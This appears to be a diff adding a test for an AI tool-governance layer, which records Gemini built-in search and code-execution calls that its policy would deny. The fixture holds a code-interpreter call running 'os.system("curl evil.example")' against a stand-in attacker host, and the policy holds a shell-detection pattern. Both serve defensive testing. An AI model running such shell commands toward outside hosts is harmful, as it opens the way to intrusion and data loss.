@@ -28,7 +28,87 @@ rules:
     reason: "Code execution needs a reviewer"
 `;
 
+const QUERY_POLICY = `
+name: what-builtins-may-do
+version: "1"
+appliesTo: { tags: [vertex] }
+rules:
+  - effect: allow
+    actions: ["execute:code_interpreter"]
+  - id: no-competitor-searches
+    effect: deny
+    actions: ["read:web_search"]
+    conditions: { context: { query: { matches: "competitor" } } }
+    reason: Searching for competitors is not allowed
+  - id: no-shell-from-code
+    effect: deny
+    actions: ["execute:code_interpreter"]
+    conditions: { context: { code: { matches: "os[.]system" } } }
+    reason: Code may not run shell commands
+`;
+
 describe('built-in tools', () => {
+  it('records a built-in call policy would have denied as it ran (a query, the code) as an observed deny', async () => {
+    const { guard, store } = supportGuard([QUERY_POLICY]);
+    const emulator = await emulators.start({
+      script: [
+        {
+          parts: [
+            textPart('Prices compared.'),
+            ...codeExecutionParts('import os\nos.system("curl evil.example")', ''),
+            ...codeExecutionParts('print(79.99 * 2)', '159.98'),
+          ],
+          groundingMetadata: searchGrounding(
+            ['headphones return policy', 'competitor headphone prices'],
+            [{ uri: 'https://acme.example/returns', title: 'Returns - ACME' }],
+          ),
+        },
+      ],
+    });
+    const traceId = 'trace_builtins_judged';
+    const builtins = await governBuiltinTools([{ googleSearch: {} }, { codeExecution: {} }], {
+      guard,
+      identity: SUPPORT_IDENTITY,
+      traceId,
+    });
+    expect(builtins.removed).toEqual([]);
+    const response = await genaiClient(emulator).models.generateContent({
+      model: MODEL,
+      contents: 'Compare prices',
+      config: { tools: builtins.tools },
+    });
+    expect(emulator.problems).toEqual([]);
+    expect(await builtins.recordBuiltinActivity(response)).toBe(3);
+    expect(await builtins.recordBuiltinActivity(response)).toBe(3); // idempotent: ids from the response
+
+    const events = await store.query({ traceId, order: 'asc' }).then((p) => p.events);
+    const observed = events.filter((e) => e.type === 'outcome');
+    expect(trail(observed).sort()).toEqual([
+      'outcome execute:code_interpreter allow/observed',
+      'outcome execute:code_interpreter deny/observed',
+      'outcome read:web_search deny/observed',
+    ]);
+    const offers = events.filter((e) => e.type === 'decision');
+    expect(trail(offers)).toEqual([
+      'decision read:web_search allow',
+      'decision execute:code_interpreter allow',
+    ]);
+    const search = observed.find((e) => e.action === 'read:web_search')!;
+    expect(search).toMatchObject({
+      kind: 'builtin_tool',
+      framework: 'vertex',
+      context: { tool: 'googleSearch', queries: ['headphones return policy', 'competitor headphone prices'] },
+      reason:
+        'observed in the response: Google ran it on its side, where MeshGuard cannot stop it; policy would not allow it: Searching for competitors is not allowed (rule no-competitor-searches)',
+    });
+    // Standalone: joined to the offer, it would take the offer's allow.
+    expect(search.decisionId).not.toBe(offers[0]!.decisionId);
+    const shell = observed.find((e) => e.effect === 'deny' && e.action === 'execute:code_interpreter')!;
+    expect(shell.reason).toMatch(/policy would not allow it: Code may not run shell commands/);
+    const fine = observed.find((e) => e.effect === 'allow')!;
+    expect(fine).toMatchObject({ decisionId: offers[1]!.decisionId, context: { code: 'print(79.99 * 2)' } });
+  });
+
   it('removes what policy denies before the request, and records the search the model ran', async () => {
     const { guard, store } = supportGuard();
     const { functions } = supportFunctions();
